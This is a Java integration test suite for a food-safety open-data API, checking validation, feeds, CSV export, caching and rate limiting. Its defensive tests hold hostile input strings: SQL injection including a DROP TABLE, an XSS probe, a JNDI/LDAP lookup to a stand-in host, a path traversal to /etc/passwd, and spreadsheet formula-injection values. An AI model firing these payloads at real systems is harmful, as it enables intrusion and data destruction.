package org.suyuan.foodsafety;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.tngtech.archunit.core.domain.JavaAnnotation;
import com.tngtech.archunit.core.domain.JavaMethod;
import com.tngtech.archunit.core.importer.ClassFileImporter;
import com.tngtech.archunit.core.importer.Location;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.net.InetAddress;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.suyuan.testing.Portal;

/** The open data as programs of strangers read it, and what they hear when they ask wrongly or too much. */
@Tag("F16")
class FoodSafetyDataIT {

    private static final String DATA = "/api/v1/food-safety/";
    private static final List<String> CATEGORIES = List.of("law", "standard", "risk", "denied");
    private static final int PER_MINUTE = 1_000;
    private static final HttpClient CLIENT = HttpClient.newHttpClient();

    private static Portal portal;

    @BeforeAll
    static void start() {
        portal = Portal.start(
                "opendata",
                Map.of(
                        "SUYUAN_TRAINING", "true",
                        "SUYUAN_TRAINING_ANSWERS", "false",
                        "SUYUAN_PROXIES", "127.0.0.1,::1",
                        "SUYUAN_OPEN_DATA_PER_MINUTE", String.valueOf(PER_MINUTE)));
        await().atMost(Duration.ofMinutes(2))
                .until(() -> portal.count("select count(*) from food_safety_notice") == 98);
    }

    @AfterAll
    static void stop() {
        portal.close();
    }

    @Test
    void the_document_names_every_resource_of_the_code_and_no_other() {
        assertThat(new TreeSet<>(document().getJsonObject("paths").keySet())).isEqualTo(resources());
    }

    @ParameterizedTest
    @ValueSource(strings = {"law", "standard", "risk", "denied"})
    void the_document_names_every_parameter_of_the_code_and_no_other(String category) {
        var id = portal.count("select max(id) from food_safety_notice where category like ?", category(category));
        for (var form : List.of("", "/atom", "/csv", "/{id}")) {
            var documented = parameters(DATA + category + form);
            var answer = get(DATA + category + form.replace("{id}", String.valueOf(id)) + "?nonsense=1");
            assertThat(answer.statusCode()).isEqualTo(400);
            var error = json(answer).getJsonArray("errors").getJsonObject(0);
            assertThat(error.getString("parameter")).isEqualTo("nonsense");
            var known = error.getString("detail").replaceFirst(".*: ", "").replaceFirst("\\.$", "");
            assertThat(documented.keySet())
                    .as(form)
                    .isEqualTo(Stream.of(known.split(", "))
                            .filter(name -> !name.isEmpty())
                            .collect(Collectors.toCollection(TreeSet::new)));
            documented.forEach(
                    (name, example) -> assertThat(get(DATA + category + form + "?" + name + "=" + encoded(example))
                                    .statusCode())
                            .as("%s%s %s=%s", category, form, name, example)
                            .isEqualTo(200));
        }
    }

    @Test
    void a_program_finds_turns_pages_and_reads_a_notice_with_its_names_in_both_languages() {
        var first = json(get(DATA + "denied?to=2026-11-19&size=10"));
        assertThat(first.getInt("count")).isEqualTo(24);
        assertThat(first.getString("next")).endsWith("?to=2026-11-19&page=2&size=10");
        assertThat(first).doesNotContainKey("previous");
        var last = json(get(DATA + "denied?to=2026-11-19&size=10&page=3"));
        assertThat(last.getJsonArray("notices")).hasSize(4);
        assertThat(last).doesNotContainKey("next");

        var found = json(get(DATA + "denied?q=" + encoded("汞") + "&country=FRA"));
        assertThat(found.getInt("count")).isOne();
        assertThat(json(get(DATA + "denied?q=" + encoded("汞") + "&country=" + encoded("法国")))
                        .getInt("count"))
                .isOne();
        var notice = found.getJsonArray("notices").getJsonObject(0);
        assertThat(notice.getString("title")).isEqualTo("法国 保湿面霜：检出汞超标");
        var country = notice.getJsonArray("country").getJsonObject(0);
        assertThat(country.getString("zh") + country.getString("en")).isEqualTo("法国France");

        var detail = json(get(URI.create(notice.getString("data")).getPath()));
        assertThat(detail.getString("originId")).isEqualTo(notice.getString("originId"));
        assertThat(get(URI.create(detail.getString("address")).getPath()).body())
                .contains(detail.getString("title"));
        assertThat(get(DATA + "law/" + notice.getInt("id")).statusCode())
                .as("a refused entry is no law")
                .isEqualTo(404);
    }

    @ParameterizedTest
    @ValueSource(strings = {"law", "standard", "risk", "denied"})
    void facets_count_what_narrowing_down_finds(String category) {
        var facets = json(get(DATA + category)).getJsonObject("facets");
        assertThat(facets.keySet()).contains("year", "source");
        facets.forEach((facet, values) -> values.asJsonArray().stream().limit(4).forEach(value -> {
            var narrowed = get(DATA + category + "?" + facet + "="
                    + encoded(value.asJsonObject().getString("code")));
            assertThat(json(narrowed).getInt("count"))
                    .as("%s %s", facet, value)
                    .isEqualTo(value.asJsonObject().getInt("count"));
        }));
    }

    @Test
    void effective_days_narrow_down_laws_and_standards() {
        var all = json(get(DATA + "law")).getInt("count");
        var later = json(get(DATA + "law?effectiveFrom=2020-01-01")).getInt("count");
        var earlier = json(get(DATA + "law?effectiveTo=2019-12-31")).getInt("count");
        assertThat(later).isPositive().isLessThan(all);
        assertThat(later + earlier).isEqualTo((int)
                portal.count("select count(effective_on) from food_safety_notice where category = 'LAW'"));
    }

    @Test
    void a_question_is_a_feed() throws Exception {
        var answer = get(DATA + "denied/atom?country=FRA&lang=en");
        assertThat(answer.headers().firstValue("content-type")).hasValue("application/atom+xml;charset=utf-8");
        var factory = DocumentBuilderFactory.newInstance();
        factory.setNamespaceAware(true);
        var feed = factory.newDocumentBuilder()
                .parse(new ByteArrayInputStream(answer.body().getBytes(StandardCharsets.UTF_8)))
                .getDocumentElement();
        assertThat(feed.getNamespaceURI()).isEqualTo("http://www.w3.org/2005/Atom");
        assertThat(feed.getElementsByTagName("entry").getLength()).isEqualTo(2);
        assertThat(feed.getElementsByTagName("name").item(0).getTextContent())
                .isEqualTo("General Administration of Customs");
        for (var required : List.of("id", "title", "updated")) {
            assertThat(feed.getElementsByTagName(required).getLength()).isEqualTo(3);
        }
    }

    @Test
    void a_table_opens_in_spreadsheets_and_computes_nothing() {
        push(
                "FTR404",
                "formula.xml",
                "2026-11-21T09:00:00+08:00",
                "<originId>FORMULA</originId><title>=HYPERLINK(\"http://x.test\",\"y\")</title>"
                        + "<publishedOn>2026-11-20</publishedOn><product>@SUM(1)</product>"
                        + "<importer>+1</importer><reason>-1 | cmd</reason>");
        var lines = get(DATA + "denied/csv?from=2026-11-20").body().split("\r\n");
        assertThat(lines).hasSize(2);
        assertThat(lines[0]).startsWith("\uFEFF来源,来源编号,");
        assertThat(lines[1])
                .contains("\"'=HYPERLINK(\"\"http://x.test\"\",\"\"y\"\")\"", ",'@SUM(1),", ",'+1,", ",'-1 | cmd,");
        assertThat(get(DATA + "denied/csv?lang=en").body().split("\r\n"))
                .hasSize(26)
                .anySatisfy(line -> assertThat(line).contains("General Administration of Customs", "France"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"risk", "risk/atom", "risk/csv"})
    void what_has_not_changed_is_not_sent_again(String path) {
        var first = get(DATA + path);
        var tag = first.headers().firstValue("etag").orElseThrow();
        var time = first.headers().firstValue("last-modified").orElseThrow();
        assertThat(get(DATA + path, "If-None-Match", tag).statusCode()).isEqualTo(304);
        assertThat(get(DATA + path, "If-None-Match", tag).body()).isEmpty();
        assertThat(get(DATA + path, "If-Modified-Since", time).statusCode()).isEqualTo(304);
        assertThat(get(DATA + path, "If-None-Match", "\"other\"").statusCode()).isEqualTo(200);

        push(
                "FTR403",
                path.replace('/', '-') + ".xml",
                "2026-11-22T09:00:00+08:00",
                "<originId>" + path + "</originId><title>Changed</title><publishedOn>2026-11-20</publishedOn>");
        assertThat(get(DATA + path, "If-None-Match", tag).statusCode()).isEqualTo(200);
    }

    @ParameterizedTest
    @CsvSource({
        "law?from=2026-02-30, from",
        "law?from=yesterday, from",
        "law?from=2026-02-02&to=2026-01-01, to",
        "law?effectiveTo=0000-01-01, effectiveTo",
        "law?validity=MAYBE, validity",
        "law?country=FRA, country",
        "risk?month=2026-13, month",
        "risk?year=-1, year",
        "denied?hsCode=abc, hsCode",
        "denied?page=0, page",
        "denied?page=999999999999999999999, page",
        "denied?page=51, page",
        "denied?size=101, size",
        "denied?sort=title, sort",
        "denied?q=%FF, q",
        "denied?q=a%00b, q",
        "denied?q=a&q=b, q",
        "denied/atom?lang=fr, lang",
        "denied/csv?page=1, page",
        "denied/1?q=a, q"
    })
    void what_is_wrong_is_named(String asked, String parameter) {
        var answer = get(DATA + asked);
        assertThat(answer.statusCode()).isEqualTo(400);
        assertThat(answer.headers().firstValue("content-type")).hasValue("application/problem+json;charset=utf-8");
        assertThat(json(answer).getJsonArray("errors").getValuesAs(JsonObject.class))
                .extracting(error -> error.getString("parameter"))
                .containsOnly(parameter);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "' or '1'='1",
                "'; drop table food_safety_notice; --",
                "\\' & | ! ( : * <-> \"",
                "%_!%%%%%%%%%%%%%%%%%%%%",
                "<script>alert(1)</script>",
                "${jndi:ldap://x.test/a} #{7*7}",
                "../../../../etc/passwd",
                "\uD83D\uDE00\u202E。",
                "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
            })
    void hostile_values_in_every_condition_find_nothing_reveal_nothing_and_take_no_time(String hostile) {
        for (var category : CATEGORIES) {
            for (var name : parameters(DATA + category).keySet()) {
                for (var page : List.of(DATA + category, "/public/info/" + category)) {
                    var begin = Instant.now();
                    var answer = get(page + "?" + name + "=" + encoded(hostile));
                    assertThat(Duration.between(begin, Instant.now()))
                            .as("%s %s", page, name)
                            .isLessThan(Duration.ofSeconds(5));
                    assertThat(answer.statusCode()).as("%s %s", page, name).isIn(200, 400);
                    assertThat(answer.body().replaceFirst("(?s).*<main ", "").replaceFirst("(?s)</main>.*", ""))
                            .doesNotContain("<script>alert", "SQL", "\tat ", " 49 ")
                            .doesNotContainPattern(
                                    "(java|jakarta|javax|org\\.h2|org\\.postgresql)\\.[a-z]+\\.[A-Za-z.]*Exception");
                }
            }
        }
        assertThat(portal.count("select count(*) from food_safety_notice")).isGreaterThanOrEqualTo(98);
    }

    @Test
    void what_there_is_not_and_what_is_not_done_is_told_as_a_problem() throws Exception {
        for (var path :
                List.of(DATA + "nothing", DATA + "law/99999999", DATA + "law/9999999999999999999999", "/api/v1/x")) {
            var answer = get(path);
            assertThat(answer.statusCode()).as(path).isEqualTo(404);
            assertThat(json(answer).getInt("status")).isEqualTo(404);
        }
        var post = HttpRequest.newBuilder(URI.create(portal.url(DATA + "law")))
                .POST(BodyPublishers.ofString("{}"))
                .build();
        assertThat(CLIENT.send(post, BodyHandlers.ofString()).statusCode()).isEqualTo(405);
        assertThat(from("127.0.0.3", DATA + "law?q=%zz", ""))
                .startsWith("HTTP/1.1 400")
                .contains("\"parameter\":\"q\"");
        assertThat(json(get(DATA + "nothing", "Accept-Language", "zh-CN")).getString("detail"))
                .contains("没有这样的地址");
    }

    @Test
    void nobody_is_followed_and_pages_of_other_sites_may_read() {
        var headers = get(DATA + "law").headers();
        assertThat(headers.firstValue("set-cookie")).isEmpty();
        assertThat(headers.firstValue("access-control-allow-origin")).hasValue("*");
    }

    @Test
    void who_asks_too_much_is_told_when_to_come_back_while_others_are_served() throws Exception {
        var last = throttled("127.0.0.2", "");
        assertThat(last).containsPattern("Retry-After: [1-9]").contains("application/problem+json");
        assertThat(get(DATA + "law").statusCode()).isEqualTo(200);
    }

    @Test
    void behind_a_proxy_the_address_that_it_names_is_the_client_and_nobody_else_is_believed() throws Exception {
        throttled("127.0.0.1", "X-Forwarded-For: 203.0.113.1");
        assertThat(from("127.0.0.1", DATA + "law", "X-Forwarded-For: 203.0.113.2"))
                .startsWith("HTTP/1.1 200");
        assertThat(from("127.0.0.1", DATA + "law/csv", "X-Forwarded-For: 203.0.113.2, 203.0.113.1"))
                .as("what a client wrote before the proxy did")
                .startsWith("HTTP/1.1 429");
        throttled("127.0.0.4", "X-Forwarded-For: 203.0.113.3");
        assertThat(from("127.0.0.4", DATA + "law/csv", "X-Forwarded-For: 203.0.113.4"))
                .as("no proxy of this portal")
                .startsWith("HTTP/1.1 429");
    }

    /** Asks too much; the last answer. */
    private static String throttled(String address, String header) throws IOException {
        var answers = new TreeMap<String, Integer>();
        String last = "";
        for (int i = 0; i <= PER_MINUTE / 10 + 40; i++) {
            last = from(address, DATA + "law/csv?nonsense=1", header);
            answers.merge(last.split(" ", 3)[1], 1, Integer::sum);
        }
        assertThat(answers.keySet()).containsExactlyInAnyOrder("400", "429");
        assertThat(answers.get("400")).isBetween(PER_MINUTE / 10, PER_MINUTE / 10 + 30); // credit grows meanwhile
        return last;
    }

    /** A request from another address of this machine. */
    private static String from(String address, String path, String header) throws IOException {
        try (var socket =
                new Socket(InetAddress.getByName("127.0.0.1"), portal.port(), InetAddress.getByName(address), 0)) {
            var request = "GET " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                    + (header.isEmpty() ? "" : header + "\r\n") + "\r\n";
            socket.getOutputStream().write(request.getBytes(StandardCharsets.US_ASCII));
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    private static JsonObject document() {
        return json(get("/openapi?format=JSON"));
    }

    /** An example of each parameter of the query, as the document gives it. */
    private static Map<String, String> parameters(String path) {
        var document = document();
        var examples = new TreeMap<String, String>();
        for (var reference : document.getJsonObject("paths")
                .getJsonObject(path)
                .getJsonObject("get")
                .getJsonArray("parameters")
                .getValuesAs(JsonObject.class)) {
            var parameter = reference.containsKey("$ref")
                    ? document.getJsonObject("components")
                            .getJsonObject("parameters")
                            .getJsonObject(reference.getString("$ref").replaceFirst(".*/", ""))
                    : reference;
            if (parameter.getString("in").equals("query")) {
                examples.put(
                        parameter.getString("name"),
                        parameter.get("example").toString().replace("\"", ""));
            }
        }
        return examples;
    }

    private static Set<String> resources() {
        var paths = new TreeSet<String>();
        new ClassFileImporter()
                .importLocations(Set.of(Location.of(Path.of("..", "web", "target", "classes")))).stream()
                        .filter(type -> type.isAnnotatedWith(jakarta.ws.rs.Path.class))
                        .forEach(type -> type.getMethods().stream()
                                .filter(method -> method.isAnnotatedWith(jakarta.ws.rs.GET.class))
                                .map(method -> path(type.getAnnotations()) + path(method))
                                .flatMap(path -> CATEGORIES.stream()
                                        .map(category -> "/api/v1" + path.replace("{category}", category)))
                                .forEach(paths::add));
        return paths;
    }

    private static String path(JavaMethod method) {
        return path(method.getAnnotations()).replaceAll("\\{(\\w+):[^}]*}", "{$1}");
    }

    private static String path(Set<? extends JavaAnnotation<?>> annotations) {
        return annotations.stream()
                .filter(annotation -> annotation.getRawType().isEquivalentTo(jakarta.ws.rs.Path.class))
                .map(annotation -> "/" + annotation.get("value").orElseThrow())
                .findFirst()
                .orElse("");
    }

    private static String category(String path) {
        return path.equals("denied") ? "DENIED_ENTRY" : path.toUpperCase(java.util.Locale.ROOT);
    }

    private static void push(String type, String name, String time, String rest) {
        var message = "<" + type + " xmlns=\"urn:suyuan:ftr:1\"><head><messageId>M</messageId><messageTime>" + time
                + "</messageTime></head><notice><operation>PUBLISH</operation><source>GACC</source>" + rest
                + "</notice></" + type + ">";
        portal.push(type, name, message.getBytes(StandardCharsets.UTF_8));
        await().atMost(Duration.ofMinutes(1))
                .until(() ->
                        portal.count("select count(*) from inbound_file where file_name = ? and state = 'DONE'", name)
                                == 1);
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    private static JsonObject json(HttpResponse<String> answer) {
        try (var reader = Json.createReader(new StringReader(answer.body()))) {
            return reader.readObject();
        }
    }

    private static HttpResponse<String> get(String path, String... headers) {
        try {
            var request = HttpRequest.newBuilder(URI.create(portal.url(path))).header("Accept-Language", "en");
            for (int i = 0; i < headers.length; i += 2) {
                request.setHeader(headers[i], headers[i + 1]);
            }
            var answer = CLIENT.send(request.build(), BodyHandlers.ofString());
            if (answer.statusCode() != 429) {
                return answer;
            }
            var seconds = answer.headers().firstValueAsLong("Retry-After").orElseThrow();
            await().pollDelay(Duration.ofSeconds(seconds)).until(() -> true); // as asked: a fast machine tests fast
            return get(path, headers);
        } catch (IOException e) {
            throw new IllegalStateException(path, e);
        } catch (InterruptedException e) {
            throw new IllegalStateException(e);
        }
    }
}
